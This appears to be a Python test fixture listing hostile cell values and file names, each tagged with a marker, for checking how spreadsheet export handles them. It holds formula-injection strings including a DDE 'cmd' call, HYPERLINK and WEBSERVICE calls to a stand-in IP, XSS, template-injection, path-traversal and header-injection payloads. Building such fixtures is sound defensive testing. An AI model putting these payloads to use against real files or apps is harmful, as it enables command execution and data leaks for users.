"""What a hostile unit types into its cells and calls its files; the mark tells where any of it comes out."""

MARK = "zq9"
TEXTS = (
    "=1+1+zq9", "+1+zq9", "-1+zq9", "@SUM(zq9)", "{=SUM(zq9)}", "=zq9", " =1+zq9", "\t=1+zq9", "\r=1+zq9", "\n=1+zq9",
    "＝1+zq9", '=HYPERLINK("http://192.0.2.1/zq9","x")', "=cmd|'/c zq9'!A0", '=WEBSERVICE("http://192.0.2.1/zq9")',
    "http://192.0.2.1/zq9", "https://192.0.2.1/zq9", "ftp://192.0.2.1/zq9", "internal:Sheet1!A1zq9",
    "external:zq9.xlsx", "file:///etc/zq9", "mailto:zq9@example.invalid", "\\\\192.0.2.1\\zq9", "javascript:zq9()",
    "<script>zq9()</script>", '"><img src=x onerror=zq9()>', "</script><script>zq9()</script>", "]]><zq9/><![CDATA[",
    "<!--zq9-->", "&zq9;", "{{ zq9 }}", "{zq9}", "{% zq9 %}", "%(zq9)s", "$zq9", "${zq9}", "../../../zq9",
    "C:\\zq9", "a\u202ezq9", "_x003D_1+zq9", "_x0000_zq9", "_xD800_zq9", "zq9\u2028=1+1", "zq9;=1+1", 'zq9","=1+1',
    "zq9\nBcc: a@example.invalid", "'=1+zq9", "-zq9", "zq9\x7f", "|zq9", "#zq9", "zq9%",
)  # fmt: skip
# As the names of files lie on a disk: bytes.
FILES = (
    b"=1+1+cmd,'@SUM(A1)zq9.xlsx",
    b"zq9\n=1+1.xlsx",
    "zq9\u202exslx.xlsx".encode(),
    "zq9报回.xlsx".encode("gbk"),
    b"<img src=x onerror=zq9()>.xlsx",
    b"-zq9.xlsx",
    b"zq9\x1b[31m.xlsx",
    b"{name}%s{{ zq9 }}.xlsx",
    b"..zq9..xlsx",
    b"http:zq9.xlsx",
    b'zq9";.xlsx',
    b"zq9\\..\\..\\x.xlsx",
    b"zq9\r=1.txt",
    b"@zq9",
)
